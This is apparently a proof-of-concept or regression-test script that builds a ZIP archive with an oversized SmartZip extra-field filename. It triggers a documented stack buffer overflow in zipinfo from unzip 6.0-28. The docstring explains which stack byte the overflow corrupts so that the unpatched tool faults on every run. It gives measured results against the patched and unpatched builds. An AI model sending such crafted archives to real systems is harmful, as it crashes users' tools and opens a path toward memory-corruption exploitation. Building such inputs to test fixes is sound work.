#!/usr/bin/env python3
"""Writes smartzip-157.zip.b64 (base64 of the archive: the plan's `write` step takes text) and,
given a second path, the archive itself. The archive: one stored member whose extra field is a SmartZip block
(header 0x4d63, 64 bytes, "dZip") claiming a 157-byte Mac filename. zipinfo -v before
unzip 6.0-28+deb12u1 copies 31 bytes into a 32-byte stack buffer and then writes the
terminating NUL at index 157 (Debian #1142905, CAN-2026-2034443). By its behaviour the
8 bytes at 152-159 are a saved address (zeroing 158 or 159, an address's two zero top bytes,
changes nothing); 157 is its top non-zero byte (0x7f.. or 0x55..), never zero already, so
zeroing it breaks the address on every run whatever the layout. Indexes 153-156 hit the pointer's randomised bytes, which are sometimes
zero already: 156, used first, let 6.0-28 list the archive in about 1 run of 100 (measured
297 of 300). Measured for 157 on bookworm's 6.0-28 and a local build of it: 3000 of 3000
runs fault; 6.0-28+deb12u1: 3000 of 3000 list it (testbeds/plans/transcripts/unzip-1142905.txt).

    python3 make-smartzip.py smartzip-157.zip.b64 [smartzip-157.zip]
"""
import base64
import io
import struct
import sys
import zipfile

LENGTH = 157
data = b"dZip" + b"TEXTttxt" + b"\0" * 20 + bytes([LENGTH]) + b"srukit-smartzip-name".ljust(31, b"A")
assert len(data) == 64  # EB_SMARTZIP_HLEN: zipinfo ignores a block of any other size
member = zipfile.ZipInfo("hello.txt", date_time=(2026, 1, 1, 0, 0, 0))
member.extra = struct.pack("<HH", 0x4D63, len(data)) + data
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as archive:
    archive.writestr(member, "hello\n")
with open(sys.argv[1], "w") as out:
    out.write(base64.encodebytes(buf.getvalue()).decode())
if len(sys.argv) > 2:
    with open(sys.argv[2], "wb") as out:
        out.write(buf.getvalue())
